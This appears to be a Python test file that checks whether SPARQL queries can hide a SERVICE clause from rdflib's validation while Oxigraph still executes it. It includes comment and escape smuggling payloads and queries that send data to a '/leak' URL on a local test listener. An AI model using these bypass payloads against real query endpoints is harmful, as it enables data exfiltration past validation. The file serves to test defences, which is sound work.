"""SPARQL that two parsers read differently (issue 27, item 1), and queries that would exhaust a shared server
(item 2), against every store: memory, an embedded Oxigraph store and a real ``oxigraph serve``.

rdflib checks the query; Oxigraph runs it. A carriage return ends a ``#`` comment for Oxigraph but not for
rdflib, and ``\\u0022`` in a string ends the string for rdflib (which expands escapes first) but not for
Oxigraph: either hides a SERVICE from the check. A real listener on 127.0.0.1 records every request; a
refusal only passes when it received nothing.
"""

from __future__ import annotations

import pytest

from graph import sparql
from tests.test_hostile import Listener

# What rdflib reads as the end of the line, while Oxigraph reads on: the SERVICE after it is hidden from the check.
HIDERS = {
    "CR ends a comment": "# c\r",
    "escaped quote ends a string": 'FILTER(STRLEN("\\u0022)) # ") >= 0)',
}


def group(url: str, hider: str, endpoint: str = "") -> str:
    """A group pattern whose SERVICE only Oxigraph reads; the closing brace on its own line is read by both."""
    return f"{{ ?s ?p ?o {hider} SERVICE SILENT {endpoint or f'<{url}/leak>'} {{ ?a ?b ?c }}\n }}"


def clauses(url: str, hider: str) -> dict[str, str]:
    g = group(url, hider)
    return {
        "WHERE": f"SELECT * WHERE {g} LIMIT 1",
        "sub-select": f"SELECT * WHERE {{ {{ SELECT * WHERE {g} LIMIT 1 }} }}",
        "EXISTS": f"SELECT * WHERE {{ VALUES ?x {{ 1 }} FILTER EXISTS {g} }} LIMIT 1",
        "NOT EXISTS": f"ASK {{ VALUES ?x {{ 1 }} FILTER NOT EXISTS {g} }}",
        "OPTIONAL": f"SELECT * WHERE {{ VALUES ?x {{ 1 }} OPTIONAL {g} }} LIMIT 1",
        "UNION": f"SELECT * WHERE {{ {{ VALUES ?x {{ 1 }} }} UNION {g} }} LIMIT 1",
        "MINUS": f"SELECT * WHERE {{ VALUES ?x {{ 1 }} MINUS {g} }} LIMIT 1",
        "GRAPH": f"SELECT * WHERE {{ GRAPH ?gr {g} }} LIMIT 1",
        "CONSTRUCT": f"CONSTRUCT {{ ?s ?p ?o }} WHERE {g} LIMIT 1",
        "DESCRIBE": f"DESCRIBE ?s WHERE {g} LIMIT 1",
        "ASK": f"ASK {g}",
        "LATERAL": f"SELECT * WHERE {{ VALUES ?x {{ 1 }} LATERAL {g} }} LIMIT 1",
        "variable endpoint": ("SELECT * WHERE { ?d <http://purl.org/dc/terms/title> ?t "
                              f"BIND(IRI(CONCAT(\"{url}/t?\", ENCODE_FOR_URI(?t))) AS ?e) "
                              f"{group(url, hider, '?e')} }} LIMIT 3"),
    }


CASES = [(h, c) for h in HIDERS for c in clauses("http://x", "")]


@pytest.fixture()
def listener():
    lst = Listener()
    yield lst
    lst.close()


@pytest.mark.parametrize(("hider", "clause"), CASES, ids=[f"{h}-{c}" for h, c in CASES])
def test_a_service_hidden_from_the_check_is_never_run(stored, listener, hider, clause):
    """The store runs the text that was checked. A CR is a line end for both, so the SERVICE after it is seen
    and refused; the expanded quote ends the string for both, so the SERVICE is a comment for both and the
    query answers without it. Either way nothing reaches the listener."""
    q = clauses(listener.url, HIDERS[hider])[clause]
    try:
        sparql.run(None, q, timeout=10, store=stored.store, build=stored.build)
        refused = ""
    except sparql.QueryRefused as e:
        refused = str(e)
    assert listener.requests == [], f"{clause}: the query reached the listener"
    if hider == "CR ends a comment" and clause != "LATERAL":  # rdflib cannot parse LATERAL: not valid SPARQL
        assert "SERVICE is refused" in refused


@pytest.mark.parametrize("spelling", ["\r\n", "\r"])
def test_carriage_returns_still_end_lines_in_an_honest_query(stored, spelling):
    """Windows line ends and a lone CR are line ends for both readers: a commented query still answers."""
    q = spelling.join(["# every document title", "SELECT (COUNT(*) AS ?n) # how many", "WHERE { ?d ?p ?o }"])
    res = sparql.run(None, q, timeout=30, store=stored.store, build=stored.build)
    assert int(res.rows[0]["n"]) > 1000


def test_escapes_are_read_once_and_as_the_standard_says(stored):
    """``\\u0041`` is an A wherever it appears; an escape that spells another escape is refused, not read twice."""
    res = sparql.run(None, 'SELECT ?x WHERE { BIND("\\u0041\\U00000042" AS ?x) }', store=stored.store,
                     build=stored.build)
    assert res.rows == [{"x": "AB"}]
    with pytest.raises(sparql.QueryRefused, match="escape"):
        sparql.run(None, 'SELECT ?x WHERE { BIND("\\u005Cu0022" AS ?x) }', store=stored.store, build=stored.build)
